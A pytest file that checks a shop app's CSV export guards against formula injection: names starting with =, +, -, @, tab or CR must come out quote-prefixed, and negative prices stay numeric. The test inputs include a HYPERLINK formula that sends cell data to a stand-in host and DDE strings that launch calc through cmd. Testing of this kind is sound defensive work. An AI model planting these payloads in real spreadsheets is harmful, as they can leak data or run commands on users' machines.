"""CSV export never plants a formula: OWASP's quote prefix on text, numbers intact."""

from __future__ import annotations

import csv
import decimal
import io

import pytest
from sqlalchemy import update

from app.extensions import db


def _set_item(app, item_id: int, **values) -> None:
    table = app.shop.table("items")
    with app.app_context():
        db.session.execute(
            update(table).where(table.c.item_id == item_id).values(**values)
        )
        db.session.commit()


def _exported_row(client, item_id: int) -> dict[str, str]:
    body = client.get("/t/shop/items/-/export.csv").get_data().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    return next(r for r in rows if r["Item id"] == str(item_id))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/"&B2,"Open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_export_csv_text_starting_with_formula_trigger_is_quote_prefixed(
    shop_app, shop_client, text
):
    """GIVEN an item whose name starts with = + - @ tab or CR
    WHEN the list is exported as CSV
    THEN the cell holds the name behind a single quote, so Excel shows it as text."""
    _set_item(shop_app, 3, name=text)
    assert _exported_row(shop_client, 3)["Name"] == "'" + text


def test_export_csv_ordinary_text_is_unchanged(shop_app, shop_client):
    """GIVEN an item whose name has a formula character only inside it
    WHEN the list is exported as CSV
    THEN the cell is exactly the name."""
    _set_item(shop_app, 3, name="Drill 2-speed = fast @home")
    assert _exported_row(shop_client, 3)["Name"] == "Drill 2-speed = fast @home"


def test_export_csv_negative_number_stays_a_number(shop_app, shop_client):
    """GIVEN an item with a negative price (a Numeric column)
    WHEN the list is exported as CSV
    THEN the price cell is the plain negative number, with no quote."""
    _set_item(shop_app, 3, price=decimal.Decimal("-12.5"))
    assert _exported_row(shop_client, 3)["Price"] == "-12.50"
